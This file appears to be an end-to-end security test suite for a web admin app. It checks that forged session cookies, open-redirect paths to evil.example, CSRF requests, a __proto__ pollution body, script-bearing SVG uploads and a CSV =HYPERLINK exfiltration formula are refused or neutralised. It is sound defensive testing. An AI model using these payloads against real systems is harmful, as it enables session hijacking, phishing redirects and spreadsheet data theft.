import { createHmac } from 'node:crypto';
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { expect, test, type APIResponse, type BrowserContext, type Page } from './support/test';
import { sealData } from 'iron-session';
import { signIn, ssoLink } from './support/auth';
import { demo } from './support/demo';
import { E2E } from './support/env';
import { dynamicRoutes } from '../support/dynamic-routes';
import { ROUTES } from '@/lib/access/routes';

/**
 * Hostile input against the real server (scripts/serve.mjs + the demo upstream): the same attacks as the
 * in-process suites (tests/integration/hostile-*.test.ts), end to end through HTTP and a browser.
 */
const ORIGIN = { Origin: E2E.baseURL };
const IMAGES = join(__dirname, '../fixtures/images');
const EXPIRED = 'Your session has expired. Please sign in again.';

test.beforeEach(async () => {
  await demo.reset();
});

async function accountKey(email = 'admin@acme.test'): Promise<string> {
  const { accounts } = (await (await fetch(`${E2E.demoURL}/__demo/accounts`)).json()) as {
    accounts: { email: string; apps: { api_key: string }[] }[];
  };
  return accounts.find((a) => a.email === email)?.apps[0]?.api_key ?? '';
}

/** A plain agent of acme, read from the demo upstream. */
async function someAgent(): Promise<{ id: number; display_name: string }> {
  const res = await fetch(`${E2E.demoURL}/agents?limit=1&offset=0&q=acmerealty.test`, {
    headers: { 'X-API-KEY': await accountKey(), 'X-Mode': 'manager' },
  });
  const { agents } = (await res.json()) as { agents: { id: number; display_name: string }[] };
  if (!agents[0]) throw new Error('no agent in the demo');
  return agents[0];
}

const sessionCookie = async (context: BrowserContext) => (await context.cookies()).find((c) => c.name === 'bd_session');

async function setSession(context: BrowserContext, value: string) {
  await context.addCookies([{ name: 'bd_session', value, url: E2E.baseURL, httpOnly: true, sameSite: 'Lax' }]);
}

const message = async (res: APIResponse) => ((await res.json()) as { error?: { message?: string } }).error?.message;
const pin = (page: Page, id: number, headers: Record<string, string> = ORIGIN) =>
  page.request.post(`/api/agents/${id}/pin`, { data: { pinned: true }, headers });

test.describe('session cookies', () => {
  test('a tampered cookie is a signed-out visitor: pages go to sign-in, mutations get 401, nothing changes', async ({ page, context }) => {
    const agent = await someAgent();
    await signIn(page, 'admin@acme.test');
    const value = (await sessionCookie(context))?.value ?? '';
    const i = Math.floor(value.length / 2);
    await setSession(context, value.slice(0, i) + (value[i] === 'A' ? 'B' : 'A') + value.slice(i + 1));
    await page.goto('/agents');
    await expect(page).toHaveURL(/\/login\?next=%2Fagents$/);
    const res = await pin(page, agent.id);
    expect(res.status()).toBe(401);
    expect(await message(res)).toBe('Please sign in.');
    expect(((await demo.agent(agent.id)) as { priority: number }).priority).toBe(0);
  });

  test('a truncated cookie and one sealed with a foreign secret are signed-out visitors', async ({ page, context }) => {
    await signIn(page, 'admin@acme.test');
    const value = (await sessionCookie(context))?.value ?? '';
    for (const forged of [
      value.slice(0, -16),
      await sealData({ v: 1, apiKey: await accountKey(), stackId: 'acme' }, { password: 'f'.repeat(40) }),
    ]) {
      await setSession(context, forged);
      await page.goto('/');
      await expect(page).toHaveURL(/\/login$/);
    }
  });

  test('after logout the old cookie value no longer works: the upstream revoked its key', async ({ page, context }) => {
    const agent = await someAgent();
    await signIn(page, 'admin@acme.test');
    const stolen = (await sessionCookie(context))?.value ?? '';
    await page.getByRole('complementary', { name: 'Sidebar' }).getByRole('button', { name: 'Log out' }).click();
    await expect(page).toHaveURL(/\/login$/);
    await setSession(context, stolen);
    const res = await pin(page, agent.id);
    expect(res.status()).toBe(401);
    expect(await message(res)).toBe(EXPIRED);
    expect(res.headers()['set-cookie']).toMatch(/bd_session=;/);
    expect(((await demo.agent(agent.id)) as { priority: number }).priority).toBe(0);
    await setSession(context, stolen);
    await page.goto('/agents');
    await expect(page).toHaveURL(/\/login\?expired=1$/);
    await expect(page.getByText(EXPIRED)).toBeVisible();
  });

  test("each sign-in has its own key: logging out one browser leaves another browser's session working", async ({ page, browser }) => {
    const other = await browser.newContext();
    const second = await other.newPage();
    try {
      await signIn(page, 'manager@acme.test');
      await signIn(second, 'manager@acme.test');
      await page.getByRole('complementary', { name: 'Sidebar' }).getByRole('button', { name: 'Log out' }).click();
      await expect(page).toHaveURL(/\/login$/);
      await second.goto('/agents');
      await expect(second.getByRole('heading', { level: 1 })).toBeVisible();
      await expect(second).toHaveURL(/\/agents$/);
    } finally {
      await other.close();
    }
  });

  test('the session cookie is HttpOnly, SameSite=Lax, Secure (production build), one day; unreadable by scripts', async ({
    page,
    context,
  }) => {
    await signIn(page, 'agent@acme.test');
    const cookie = await sessionCookie(context);
    expect(cookie).toMatchObject({ httpOnly: true, sameSite: 'Lax', secure: true, path: '/' });
    expect(cookie?.expires ?? 0).toBeGreaterThan(Date.now() / 1000 + 86_300);
    expect(cookie?.expires ?? 0).toBeLessThan(Date.now() / 1000 + 86_500);
    expect(await page.evaluate(() => document.cookie)).not.toContain('bd_session');
  });
});

test.describe('the remembered path never leaves the site', () => {
  for (const evil of [
    '/.//evil.example',
    '/a/..//evil.example',
    '/%2e%2e//evil.example',
    '/%5C%5Cevil.example',
    'javascript:alert(1)',
    '/%6cogout',
  ]) {
    test(`sign-in with next=${evil} lands on this site`, async ({ page }) => {
      await page.goto(`/login?next=${encodeURIComponent(evil)}`);
      await page.getByLabel('Email').fill('admin@acme.test');
      await page.getByLabel('Password').fill(E2E.password);
      await page.getByRole('button', { name: 'Sign in' }).click();
      await expect(page).toHaveURL(`${E2E.baseURL}/`);
    });
  }

  test('a forged X-Forwarded-Host does not move a redirect off the site', async ({ page }) => {
    const res = await page.request.get('/sso?e=a%40b.co&a=nope', { headers: { 'X-Forwarded-Host': 'evil.example' }, maxRedirects: 0 });
    expect(res.status()).toBe(303);
    expect(new URL(res.headers()['location'] ?? '', E2E.baseURL).origin).toBe(E2E.baseURL);
  });
});

test.describe('route handlers over HTTP: roles, CSRF and bodies', () => {
  test('each role is refused what it may not do, and the upstream keeps its data', async ({ page }) => {
    const agent = await someAgent();
    await signIn(page, 'agent@acme.test');
    let res = await page.request.post('/api/agents', {
      data: { name: 'Sneaky', email: 'sneaky@acme.test', password: 'secret1' },
      headers: ORIGIN,
    });
    expect([res.status(), await message(res)]).toEqual([403, 'You do not have permission to do this.']);
    await page.request.post('/logout', { headers: ORIGIN });
    await signIn(page, 'manager@acme.test');
    res = await page.request.delete(`/api/agents/${agent.id}`, { headers: ORIGIN });
    expect([res.status(), await message(res)]).toEqual([403, 'You do not have permission to do this.']);
    await page.goto('/?ro=1');
    res = await pin(page, agent.id);
    expect([res.status(), await message(res)]).toEqual([403, 'Read-only mode: changes are not allowed.']);
    await page.context().clearCookies();
    res = await pin(page, agent.id);
    expect([res.status(), await message(res)]).toEqual([401, 'Please sign in.']);
    expect(await demo.agent(agent.id)).toMatchObject({ priority: 0, display_name: agent.display_name });
  });

  test('CSRF: a foreign Origin, no Origin, or a form content type is refused', async ({ page }) => {
    const agent = await someAgent();
    await signIn(page, 'admin@acme.test');
    const attacks = [
      pin(page, agent.id, { Origin: 'https://evil.example' }),
      pin(page, agent.id, {}),
      page.request.post(`/api/agents/${agent.id}/pin`, { headers: { ...ORIGIN, 'Content-Type': 'text/plain' }, data: '{"pinned":true}' }),
      page.request.post(`/api/agents/${agent.id}/pin`, { headers: ORIGIN, form: { pinned: 'true' } }),
      page.request.post(`/api/agents/${agent.id}/resend-email`, { headers: ORIGIN, multipart: { x: '1' } }),
    ];
    expect(await Promise.all(attacks.map(async (a) => (await a).status()))).toEqual([403, 403, 415, 415, 415]);
    expect(((await demo.agent(agent.id)) as { priority: number }).priority).toBe(0);
  });

  test('bodies: malformed JSON, a prototype-pollution key, control characters and a huge body get a clear answer', async ({ page }) => {
    const agent = await someAgent();
    await signIn(page, 'admin@acme.test');
    // A Buffer goes as it is (a string would be JSON-encoded once more).
    const post = (data: string) =>
      page.request.post(`/api/agents/${agent.id}`, { headers: { ...ORIGIN, 'Content-Type': 'application/json' }, data: Buffer.from(data) });
    const cases: [string, number, string][] = [
      ['{"displayName": "x", ', 400, 'The request body is not valid JSON.'],
      ['{"__proto__": {"isAdmin": true}, "displayName": "A", "email": "a@acme.test"}', 400, 'Invalid __proto__: this field is not allowed'],
      [
        JSON.stringify({ displayName: 'Admin\u202Egnp.exe', email: 'a@acme.test' }),
        400,
        'Invalid displayName: contains characters that are not allowed',
      ],
      [JSON.stringify({ displayName: 'A', email: 'a@acme.test', bio: 'x'.repeat(150_000) }), 413, 'The request is too large.'],
    ];
    for (const [data, status, text] of cases) {
      const res = await post(data);
      expect([res.status(), await message(res)]).toEqual([status, text]);
    }
    expect(await demo.agent(agent.id)).toMatchObject({ display_name: agent.display_name });
  });
});

test.describe('files', () => {
  test('an 11 MB photo is refused with 413, a renamed text file and an SVG with a script with 415', async ({ page }) => {
    const agent = await someAgent();
    await signIn(page, 'admin@acme.test');
    const upload = (data: Buffer, type: string) =>
      page.request.post(`/api/agents/${agent.id}/photo`, { headers: { ...ORIGIN, 'Content-Type': type }, data });
    const { photo } = (await demo.agent(agent.id)) as { photo: string | null };
    const started = Date.now();
    const big = await upload(Buffer.alloc(11 * 1024 * 1024, 0x61), 'image/png');
    expect([big.status(), await message(big)]).toEqual([413, 'The photo must be 5 MB or smaller.']);
    expect(Date.now() - started).toBeLessThan(10_000);
    for (const [file, type] of [
      ['not-an-image.png', 'image/png'],
      ['script.svg', 'image/svg+xml'],
    ] as const) {
      const res = await upload(readFileSync(join(IMAGES, file)), type);
      expect([res.status(), await message(res)]).toEqual([415, 'Please choose a JPEG or PNG image.']);
    }
    expect(await demo.agent(agent.id)).toMatchObject({ photo });
  });

  test('a CSV over 10 MB is refused', async ({ page }) => {
    await signIn(page, 'admin@acme.test');
    const res = await page.request.post('/api/agents/csv/preview', {
      headers: ORIGIN,
      multipart: { file: { name: 'agents.csv', mimeType: 'text/csv', buffer: Buffer.alloc(10 * 1024 * 1024 + 100_000, 'a') } },
    });
    expect(res.status()).toBe(413);
  });

  test('a formula imported from a CSV (=HYPERLINK) is neutralised in the CSV download', async ({ page }) => {
    await signIn(page, 'admin@acme.test');
    const formula = '=HYPERLINK("http://evil.example/?x="&A1,"Click me")';
    const csv = `name,email\n"${formula.replace(/"/g, '""')}",formula.person@acme.test\n`;
    const preview = await page.request.post('/api/agents/csv/preview', {
      headers: ORIGIN,
      multipart: { file: { name: 'agents.csv', mimeType: 'text/csv', buffer: Buffer.from(csv) } },
    });
    expect(preview.status()).toBe(200);
    const { okRows } = (await preview.json()) as { okRows: { name: string; email: string }[] };
    expect(okRows).toEqual([expect.objectContaining({ name: formula, email: 'formula.person@acme.test' })]);
    const imported = await page.request.post('/api/agents/csv/import', {
      headers: ORIGIN,
      data: { rows: okRows.map(({ name, email }) => ({ name, email })) },
    });
    expect(imported.status()).toBe(200);
    const download = await page.request.get('/api/agents/csv');
    expect(download.status()).toBe(200);
    const text = await download.text();
    const line = text.split(/\r?\n/).find((l) => l.includes('formula.person@acme.test')) ?? '';
    expect(line).toContain(`"'=HYPERLINK(""http://evil.example/?x=""&A1,""Click me"")"`);
    expect(text).not.toMatch(/(^|,)"?=HYPERLINK/m);
  });
});

/** The CRM embed's link: a context and its signature, as Follow Up Boss signs them. */
const b64url = (o: unknown) => Buffer.from(typeof o === 'string' ? o : JSON.stringify(o)).toString('base64url');
const FUB_CONTEXT = b64url({
  account: { id: 1, domain: 'acme' },
  person: { id: 7, emails: [{ value: 'buyer@acme.test' }] },
  user: { id: 3, email: 'agent@acme.test' },
});
const sign = (c: string) => createHmac('sha256', E2E.fubSecret).update(c).digest('hex');

/** How a page is asked for: a document, or a client navigation (an RSC request, with the `_rsc` mark Next's router adds; without it Next redirects to the address with it). */
const PAGE = { name: 'page', headers: {} as Record<string, string>, address: (path: string) => path };
const CLIENT_NAVIGATION = {
  name: 'client navigation',
  headers: { RSC: '1' } as Record<string, string>,
  address: (path: string) => `${path}${path.includes('?') ? '&' : '?'}_rsc`,
};

/** The page routes of the access table, segments filled with a record nobody has; sign-out (a GET that ends the session) left out. */
const tablePages = () =>
  ROUTES.filter((r) => !r.pattern.startsWith('/logout')).map((r) => ({ rule: r, path: r.pattern.replace(/:[^/]+/g, '999999') }));

test.describe('/fub: every broken embed link maps to its error page', () => {
  const cases: [string, string, string][] = [
    ['a forged signature', `context=${FUB_CONTEXT}&signature=${'ab'.repeat(32)}`, 'Not found'],
    ['no signature', `context=${FUB_CONTEXT}`, 'Not found'],
    ['no context', `signature=${sign(FUB_CONTEXT)}`, 'Not found'],
    [
      'a signature replayed on a modified context',
      `context=${b64url({ account: { id: 1, domain: 'acme' }, user: { id: 4, email: 'admin@acme.test' } })}&signature=${sign(FUB_CONTEXT)}`,
      'Not found',
    ],
    [
      'a signed context that is not base64',
      `context=${encodeURIComponent('not base64!')}&signature=${sign('not base64!')}`,
      'Unauthorized',
    ],
    ['a signed context that is not JSON', `context=${b64url('plain text')}&signature=${sign(b64url('plain text'))}`, 'Unauthorized'],
  ];
  for (const [name, query, text] of cases) {
    test(`${name} → '${text}', no session`, async ({ page, context: browserContext }) => {
      await page.goto(`/fub?${query}`);
      await expect(page).toHaveURL(/\/fub\?err=/);
      await expect(page.getByRole('main').getByRole('alert')).toHaveText(text);
      expect(await sessionCookie(browserContext)).toBeUndefined();
    });
  }

  test("an embedded session's pages may be framed by the CRM only; its cookie is SameSite=None; Secure; Partitioned", async ({ page }) => {
    const res = await page.request.get(`/fub?context=${FUB_CONTEXT}&signature=${sign(FUB_CONTEXT)}`, { maxRedirects: 0 });
    expect(res.status()).toBe(303);
    expect(res.headers()['set-cookie']).toMatch(/bd_session=[^;]+;.*Secure.*HttpOnly.*SameSite=none.*Partitioned/i);
    const home = await page.request.get('/');
    expect(home.status()).toBe(200);
    expect(home.headers()['content-security-policy']).toMatch(/frame-ancestors https:\/\/app\.followupboss\.com(;|$)/);
    expect(home.headers()['x-frame-options']).toBeUndefined();
  });
});

test.describe('security headers', () => {
  test('a signed-in page: nonce CSP, nobody may frame it, nosniff, referrer and permissions policies; no HSTS in the demo', async ({
    page,
  }) => {
    await signIn(page, 'admin@acme.test');
    const res = await page.request.get('/agents');
    const h = res.headers();
    expect(h['content-security-policy']).toMatch(/script-src 'self' 'nonce-[^']+' 'strict-dynamic'/);
    expect(h['content-security-policy']).toContain("frame-ancestors 'none'");
    expect(h['x-frame-options']).toBe('DENY');
    expect(h['x-content-type-options']).toBe('nosniff');
    expect(h['referrer-policy']).toBe('strict-origin-when-cross-origin');
    expect(h['permissions-policy']).toContain('camera=()');
    // DEMO_MODE: plain HTTP on localhost; HSTS under the production configuration is covered in tests/integration/hostile-headers.test.ts.
    expect(h['strict-transport-security']).toBeUndefined();
  });

  test("route handlers' answers: nothing in them may run or be framed, no sniffing, never cached", async ({ page }) => {
    await signIn(page, 'admin@acme.test');
    for (const res of [
      await page.request.get('/api/agents?limit=1'),
      await page.request.get('/api/agents/csv'),
      await page.request.get('/api/nope'),
    ]) {
      const h = res.headers();
      expect(h['content-security-policy'], res.url()).toContain("default-src 'none'");
      expect(h['content-security-policy'], res.url()).toContain("frame-ancestors 'none'");
      expect(h['x-content-type-options'], res.url()).toBe('nosniff');
      expect(h['x-frame-options'], res.url()).toBe('DENY');
    }
    // Through Next's own server too: private, never stored, and by cookie for any cache that keeps it regardless.
    for (const path of ['/api/agents?limit=1', '/api/palette?q=ad', '/api/tags']) {
      const h = (await page.request.get(path)).headers();
      expect([h['cache-control'], h.vary], path).toEqual(['private, no-store', expect.stringMatching(/(^|, )Cookie(,|$)/)]);
    }
  });

  test("signed-in pages of the route table: private and never stored (Next's answer for a dynamic page)", async ({ page }) => {
    await signIn(page, 'admin@acme.test');
    for (const { rule, path } of tablePages()) {
      if (rule.public) continue;
      for (const way of [PAGE, CLIENT_NAVIGATION]) {
        const res = await page.request.get(way.address(path), { headers: way.headers, maxRedirects: 0 });
        if (res.status() >= 300 && res.status() < 400) continue;
        expect(res.headers()['cache-control'], `${way.name} ${path}`).toMatch(/^private, .*no-store/);
      }
    }
  });

  test("no answer's headers repeat a sign-in link's secret: the key, the SSO token, the embed's context and signature", async ({
    page,
  }) => {
    const apiKey = await accountKey();
    const sso = await ssoLink(apiKey, 'admin@acme.test');
    const signature = sign(FUB_CONTEXT);
    const secrets = [apiKey, sso.accessToken, FUB_CONTEXT, signature].flatMap((s) => [s, encodeURIComponent(s)]);
    const leaks: string[] = [];
    // A link followed from another site too: its confirmation page exists so the secret never shows.
    const ways = [
      PAGE,
      CLIENT_NAVIGATION,
      { name: 'from another site', headers: { 'Sec-Fetch-Site': 'cross-site' }, address: (p: string) => p },
    ];
    const check = async (path: string) => {
      for (const way of ways) {
        const res = await page.request.get(way.address(path), { headers: way.headers, maxRedirects: 0 });
        for (const [name, value] of Object.entries(res.headers()))
          if (secrets.some((s) => value.includes(s))) leaks.push(`${way.name} ${path} → ${name}: ${value}`);
      }
    };
    // Every page of the route table with the key in its query, signed in: a rewrite (an unknown record's not-found page) repeats none.
    await signIn(page, 'admin@acme.test');
    for (const { path } of tablePages()) await check(`${path}?api_key=${encodeURIComponent(apiKey)}`);
    for (const link of [
      `/login?api_key=${encodeURIComponent(apiKey)}&ro=1`,
      `/login?api_key=${encodeURIComponent(apiKey)}`,
      sso.path,
      `/fub?context=${FUB_CONTEXT}&signature=${signature}`,
    ])
      await check(link);
    expect(leaks).toEqual([]);
  });
});

test.describe('malformed percent-encoding in a dynamic segment', () => {
  for (const who of ['signed out', 'signed in'] as const) {
    test(`${who}: pages answer the not-found page (404), route handlers 400 with the envelope, never a 5xx`, async ({ page }) => {
      if (who === 'signed in') await signIn(page, 'admin@acme.test');
      const routes = dynamicRoutes('%E0%A4%A');
      expect(routes.map((r) => r.path)).toEqual(expect.arrayContaining(['/agents/%E0%A4%A', '/api/listings/%E0%A4%A']));
      for (const bad of ['%E0%A4%A', '%ZZ']) {
        for (const route of dynamicRoutes(bad)) {
          if (route.kind === 'page') {
            const res = await page.request.get(route.path, { maxRedirects: 0 });
            expect(res.status(), route.path).toBe(404);
            expect(await res.text()).toContain('Sorry! The page you requested does not exist.');
            continue;
          }
          for (const method of ['GET', 'POST', 'DELETE'] as const) {
            const res = await page.request.fetch(route.path, {
              method,
              headers: ORIGIN,
              maxRedirects: 0,
              ...(method === 'GET' ? {} : { data: {} }),
            });
            expect(res.status(), `${method} ${route.path}`).toBe(400);
            expect(await message(res)).toBe('The address is not valid.');
            expect(res.headers()['content-security-policy']).toContain("default-src 'none'");
          }
        }
      }
    });
  }
});

test.describe('a malformed id on a client navigation', () => {
  test("each record page's params schema answers the not-found page itself: the proxy reads no record for an RSC request", async ({
    page,
  }) => {
    await signIn(page, 'admin@acme.test');
    const pages = dynamicRoutes('x%20y').filter((r) => r.kind === 'page' && !r.path.startsWith('/provision/'));
    expect(pages.map((r) => r.path)).toEqual(
      expect.arrayContaining(['/agents/x%20y', '/users/x%20y/agentsavedsearch/x%20y', '/pocket/x%20y']),
    );
    for (const route of pages) {
      const res = await page.request.get(route.path, { headers: { RSC: '1' } });
      // No screen streams behind a loading.tsx, so a refused id is a real 404 status, not one thrown into a 200 stream.
      expect(res.status(), route.path).toBe(404);
    }
  });
});

/** Read-only mode cannot be left, and restricted mode keeps end users' names hidden. */
test.describe('read-only and restricted mode', () => {
  const READ_ONLY = 'Read-only mode: changes are not allowed.';

  test('a read-only admin gets no key and no SSO token, and an SSO sign-in from it stays read-only', async ({ page }) => {
    const key = await accountKey('admin@acme.test');
    await page.goto(`/login?api_key=${encodeURIComponent(key)}&ro=1`);
    await expect(page.getByText('Read Only', { exact: true })).toBeVisible();

    let res = await page.request.get('/api/settings/api-key');
    expect([res.status(), await message(res)]).toEqual([403, READ_ONLY]);
    res = await page.request.post('/api/settings/sso-try', { headers: ORIGIN });
    expect([res.status(), await message(res)]).toEqual([403, READ_ONLY]);
    await page.goto('/settings/sso');
    await expect(page.getByText('Single sign-on cannot be tried in read-only mode.')).toBeVisible();
    await expect(page.getByRole('button', { name: /try/i })).toHaveCount(0);
    res = await page.request.get('/api/integrations/widget/token');
    expect([res.status(), await message(res)]).toEqual([403, READ_ONLY]);
    await page.goto('/settings');
    await expect(page.getByText('The API key is not shown in read-only mode.')).toBeVisible();
    await expect(page.getByText('The CRM integration cannot be changed in read-only mode.')).toBeVisible();
    await expect(page.getByTestId('crm-widget')).toHaveCount(0);

    // A token minted elsewhere (the upstream's own call), opened in this read-only browser.
    const { path } = await ssoLink(key, 'admin@acme.test');
    await page.goto(path);
    await expect(page).toHaveURL(`${E2E.baseURL}/`);
    await expect(page.getByText('Read Only', { exact: true })).toBeVisible();
    res = await page.request.get('/api/settings/api-key');
    expect(res.status()).toBe(403);
  });

  // The cards' missing names are held in tests/integration/favorites-lists.test.ts: bay's seed has no shared list.
  test('an admin in restricted mode cannot search end users (up to 50 names a query)', async ({ page }) => {
    await signIn(page, 'restricted@bay.test');
    for (const path of ['/api/favorites-lists/users?q=com', '/api/alerts/recipients?q=com', '/api/users?q=com']) {
      const res = await page.request.get(path);
      expect([res.status(), await message(res)], path).toEqual([403, 'You do not have permission to do this.']);
    }
  });
});
